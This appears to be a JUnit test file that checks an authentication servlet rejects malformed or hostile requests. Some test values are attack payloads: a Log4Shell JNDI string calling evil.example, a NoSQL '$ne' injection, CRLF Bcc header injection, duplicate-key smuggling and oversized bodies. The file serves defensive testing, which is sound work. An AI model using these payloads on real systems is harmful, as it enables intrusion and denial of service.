package dev.doorward.auth.servlet.endpoint;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.doorward.auth.servlet.server.Reply;
import dev.doorward.auth.testing.TestDoorward;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Requests that no form sends: each is refused with a reason, and nothing is written. */
final class BadInputTest {
    private static final String LOGIN = "{\"login\":\"ada\",\"password\":\"" + TestDoorward.PASSWORD + "\"}";

    private static Site site;

    @BeforeAll
    static void start() {
        site = new Site();
        site.test.registered("ada");
    }

    @AfterAll
    static void stop() {
        site.close();
    }

    /** GHSA-xmf8-cvqr-rfgj, CVE-2013-0233: types that nobody expects. */
    static List<String> jsonThatIsNoForm() {
        List<String> all = new ArrayList<>(List.of(
                " ",
                "null",
                "true",
                "1",
                "\"text\"",
                "[]",
                "[{}]",
                "{",
                "}",
                "{}{}",
                "{}x",
                "{\"login\":\"ada\"",
                "{\"login\":\"ada\",}",
                "{login:\"ada\"}",
                "{'login':'ada'}",
                "{\"login\":NaN}",
                "{\"login\":1}",
                "{\"login\":0,\"password\":0}",
                "{\"login\":{\"$ne\":null},\"password\":{\"$ne\":null}}",
                "{\"login\":[\"ada\"],\"password\":\"" + TestDoorward.PASSWORD + "\"}",
                "{\"login\":\"ada\",\"password\":[\"" + TestDoorward.PASSWORD + "\"]}",
                "{\"login\":\"ada\",\"login\":\"ada\",\"password\":\"" + TestDoorward.PASSWORD + "\"}",
                "{\"login\":\"eve\",\"l\\u006fgin\":\"ada\",\"password\":\"" + TestDoorward.PASSWORD + "\"}",
                "{\"login\":\"\\ud800\",\"password\":\"x\"}",
                "{\"\\udfff\":\"x\"}",
                "{\"login\":\"\\x\"}",
                "{\"login\":\"a\nb\"}",
                "/* */{}",
                "{\"login\":1e999999999}",
                "{\"login\":" + "9".repeat(5_000) + "}",
                "[".repeat(30_000),
                "{\"a\":".repeat(9_000),
                "{\"a\":" + "[".repeat(9_000) + "]".repeat(9_000) + "}",
                "\ufeff" + LOGIN));
        all.add(IntStream.range(0, 101)
                .mapToObj(i -> "\"a" + i + "\":\"\"")
                .collect(Collectors.joining(",", "{", "}")));
        return all;
    }

    @ParameterizedTest
    @MethodSource("jsonThatIsNoForm")
    void json_that_is_no_form_is_400_everywhere(String json) {
        Map<String, Integer> before = site.store.rows();
        for (String path : List.of("/auth/login", "/auth/register", "/auth/logout")) {
            Reply reply = site.program().send("POST", path, json, Program.JSON);
            assertEquals(400, reply.status(), path);
            assertEquals("malformed_request", Program.code(reply));
        }
        assertEquals(before, site.store.rows());
    }

    @Test
    void no_body_is_a_form_without_fields() {
        assertEquals(
                401,
                site.program().send("POST", "/auth/login", "", Program.JSON).status());
        assertEquals(
                204,
                site.program().send("POST", "/auth/logout", "", Program.JSON).status());
        assertEquals(
                422,
                site.program().send("POST", "/auth/register", "", Program.JSON).status());
    }

    static List<String> formsThatAreNone() {
        return List.of(
                "login=%",
                "login=%z",
                "login=%zz",
                "login=%4",
                "login=%ff",
                "login=%c3%28",
                "login=%ed%a0%80",
                "login=%c0%80",
                "%ff=x",
                "login=ada&login=ada",
                "login=ada&l%6fgin=eve",
                "=a&=b",
                IntStream.range(0, 101).mapToObj(i -> "a" + i).collect(Collectors.joining("&")));
    }

    @ParameterizedTest
    @MethodSource("formsThatAreNone")
    void a_malformed_form_is_400_everywhere(String form) {
        Map<String, Integer> before = site.store.rows();
        Person person = site.person();
        String token = person.token("/auth/login");
        for (String path : List.of("/auth/login", "/auth/register", "/auth/logout")) {
            Reply reply = person.post(path, form + "&_csrf=" + token);
            assertEquals(400, reply.status(), path);
            assertTrue(reply.body().contains("This request is not understood"));
        }
        assertEquals(before, site.store.rows());
    }

    @Test
    void bytes_that_are_no_text_are_400() {
        byte[] latin = "{\"login\":\"\u00e9\",\"password\":\"x\"}".getBytes(StandardCharsets.ISO_8859_1);
        byte[] utf16 = LOGIN.getBytes(StandardCharsets.UTF_16LE);
        for (byte[] body : List.of(latin, utf16, new byte[] {(byte) 0x1f, (byte) 0x8b, 8, 0}, new byte[5])) {
            Reply reply = Contract.holds(site.server.raw(
                    "POST /auth/login HTTP/1.1\r\nHost: localhost\r\n" + Program.JSON + "\r\nContent-Length: "
                            + body.length + "\r\nConnection: close\r\n\r\n",
                    body));
            assertEquals(400, reply.status());
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "multipart/form-data; boundary=x",
                "multipart/form-data",
                "text/plain",
                "text/html",
                "application/xml",
                "application/octet-stream",
                "application/merge-patch+json",
                "application/json; charset=utf-16",
                "application/json; a=b; charset=latin1",
                "application/x-www-form-urlencoded; charset=utf-7",
                "application/jsonx",
                "x",
                ";;;"
            })
    void another_format_is_415(String type) {
        String multipart = "--x\r\nContent-Disposition: form-data; name=\"login\"\r\n\r\nada\r\n--x--\r\n";
        for (String path : List.of("/auth/login", "/auth/register", "/auth/logout")) {
            Reply reply = site.program().send("POST", path, multipart, "Content-Type: " + type);
            assertEquals(415, reply.status(), path);
            assertEquals("unsupported_media_type", Program.code(reply));
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"gzip", "deflate", "br", "GZIP", "x"})
    void a_compressed_body_is_415(String encoding) {
        Reply reply = site.program().send("POST", "/auth/login", LOGIN, Program.JSON, "Content-Encoding: " + encoding);

        assertEquals(415, reply.status());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "application/json",
                "APPLICATION/JSON",
                "application/json;charset=UTF-8",
                "application/json; charset=\"utf-8\"",
                " application/json ; a=b"
            })
    void the_spellings_of_json_are_taken(String type) {
        assertEquals(
                200,
                site.program()
                        .send("POST", "/auth/login", LOGIN, "Content-Type: " + type)
                        .status());
    }

    /** CVE-2013-1443: nobody hashes what is not a password. */
    @Test
    void a_body_that_is_too_large_is_413_and_not_read_to_its_end() {
        String large = "{\"login\":\"ada\",\"password\":\"" + "x".repeat(1024 * 1024) + "\"}";
        Map<String, Integer> before = site.store.rows();

        // Announced, and not one byte of it sent.
        Reply announced = Contract.holds(site.server.raw("POST /auth/login HTTP/1.1\r\nHost: localhost\r\n"
                + Program.JSON + "\r\nContent-Length: 1000000000\r\nConnection: close\r\n\r\n"));
        assertEquals(413, announced.status());
        assertEquals("payload_too_large", Program.code(announced));
        String chunk = Integer.toHexString(70_000) + "\r\n" + large.substring(0, 70_000) + "\r\n";
        // Not announced, and no end of it sent.
        Reply chunked = Contract.holds(site.server.raw("POST /auth/login HTTP/1.1\r\nHost: localhost\r\n" + Program.JSON
                + "\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n" + chunk));
        assertEquals(413, chunked.status());
        Person person = site.person();
        Reply form = person.post(
                "/auth/login", "login=ada&_csrf=" + person.token("/auth/login") + "&password=" + "x".repeat(66_000));
        assertEquals(413, form.status());
        assertTrue(form.body().contains("That is too much at once"));

        assertEquals(before, site.store.rows());
    }

    @ParameterizedTest
    @ValueSource(ints = {1_000, 8_192, 8_193, 60_000})
    void a_very_long_password_is_refused_and_never_cut(int length) {
        String password = TestDoorward.PASSWORD + "x".repeat(length);

        assertEquals(
                401,
                site.program()
                        .post("/auth/login", Map.of("login", "ada", "password", password))
                        .status());
        Reply registration = site.program()
                .post("/auth/register", Map.of("username", "long", "email", "long@example.com", "password", password));
        assertEquals(422, registration.status());
        assertEquals("password_too_long", Program.code(registration));
    }

    @ParameterizedTest
    @ValueSource(strings = {"zz\r\n", "5\r\nab", "-1\r\n\r\n", "ffffffffffffffffff\r\n", "5\r\n{}\r\n0\r\n\r\n"})
    void a_body_that_is_chunked_wrongly_is_400(String chunks) {
        Reply reply = site.server.raw(
                "POST /auth/login HTTP/1.1\r\nHost: localhost\r\n" + Program.JSON
                        + "\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n" + chunks,
                new byte[0],
                true);

        assertEquals(400, reply.status());
    }

    @Test
    void a_body_that_ends_too_early_is_400() {
        Map<String, Integer> before = site.store.rows();

        Reply reply = site.server.raw(
                "POST /auth/login HTTP/1.1\r\nHost: localhost\r\n" + Program.JSON + "\r\nContent-Length: "
                        + (LOGIN.length() + 1) + "\r\nConnection: close\r\n\r\n" + LOGIN,
                new byte[0],
                true);

        assertEquals(400, reply.status());
        assertEquals(before, site.store.rows());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Authorization: ",
                "Authorization: Basic",
                "Authorization: Basic !!!!",
                "Authorization: Bearer",
                "Authorization: Bearer a.b.c",
                "Authorization: x y z",
                "Accept: ;;;,,,",
                "Accept-Language: ***,,;q=x",
                "Accept-Language: xx-yyyyyyyyyyyyyyyyyyyyyyyyy-zz;q=9",
                "Cookie: ",
                "Cookie: ;;;===",
                "Cookie: __Host-session",
                "Cookie: __Host-session=",
                "Cookie: __Host-session=\"\u0000",
                "Cookie: __Host-flash=x.y.z; __Host-csrf=x; __Host-remember=x; __Host-session=x",
                "Cookie: __Host-session=a; __Host-session=b",
                "Origin: :::",
                "Sec-Fetch-Site: x",
                "X-CSRF-Token: \u00ff",
                "User-Agent: ${jndi:ldap://evil.example/a}"
            })
    void strange_headers_are_refused_or_nobodys(String header) {
        for (String path : List.of("/auth/login", "/auth/account", "/auth/csrf", "/auth/logout", "/dashboard")) {
            Reply get = site.server.get(path, header, Person.PAGES);
            assertTrue(Set.of(200, 303, 400, 401).contains(get.status()), path + " " + get.status());
            Reply post = site.server.post(path, "{}", header, Program.JSON);
            assertTrue(Set.of(200, 204, 303, 400, 401, 403, 405).contains(post.status()), path + " " + post.status());
            assertTrue(Set.of("", "none").contains(Objects.toString(post.cookie("__Host-session"), "none")));
        }
    }

    @Test
    void huge_and_repeated_cookies_let_nobody_in_and_break_nothing() {
        Person ada = site.person();
        ada.logIn("ada");
        String own = "__Host-session=" + ada.cookies().get("__Host-session");

        assertEquals(
                200,
                site.server
                        .get("/dashboard", "Cookie: a=" + "b".repeat(5_000), "Cookie: " + own)
                        .status());
        assertEquals(
                401,
                site.server.get("/dashboard", "Cookie: " + own + "; " + own).status());
        assertEquals(
                401,
                site.server
                        .get("/dashboard", "Cookie: " + own + "x".repeat(5_000))
                        .status());
        assertEquals(
                431,
                site.server
                        .get("/dashboard", "Cookie: " + "a=b; ".repeat(5_000) + own)
                        .status());
        assertEquals(
                "secret page",
                site.server
                        .get("/dashboard", "Cookie: " + "a=b; ".repeat(500) + own)
                        .body());
    }

    /** CVE-2019-16109: what is blank fits nothing that is blank. */
    @ParameterizedTest
    @ValueSource(strings = {"", " ", "null", ".", "AAAAAAAAAAAAAAAAAAAAAA.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"})
    void a_blank_token_is_nobodys(String token) {
        for (String name : List.of("__Host-session", "__Host-remember")) {
            assertEquals(
                    401,
                    site.server
                            .get("/dashboard", "Cookie: " + name + "=" + token)
                            .status());
        }
        assertEquals(
                403,
                site.server
                        .post(
                                "/auth/login",
                                LOGIN,
                                Program.JSON,
                                "Cookie: __Host-csrf=" + token,
                                "X-CSRF-Token: " + token)
                        .status());
    }

    /** CVE-2022-35924, CVE-2023-7028: one address is one address. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"a@example.com,b@example.com\"",
                "\"a@example.com;b@example.com\"",
                "\"A <a@example.com>\"",
                "\"a@example.com\\r\\nBcc: b@example.com\"",
                "\"a@example.com b@example.com\"",
                "\"a@example.com\\u0000\"",
                "[\"a@example.com\",\"b@example.com\"]",
                "{\"0\":\"a@example.com\"}"
            })
    void a_list_of_addresses_is_no_address(String email) {
        Map<String, Integer> before = site.store.rows();

        Reply reply = site.program()
                .post(
                        "/auth/register",
                        "{\"username\":\"listed\",\"password\":\"" + TestDoorward.PASSWORD + "\",\"email\":" + email
                                + "}");

        assertTrue(Set.of(400, 422).contains(reply.status()));
        assertEquals(before, site.store.rows());
    }
}
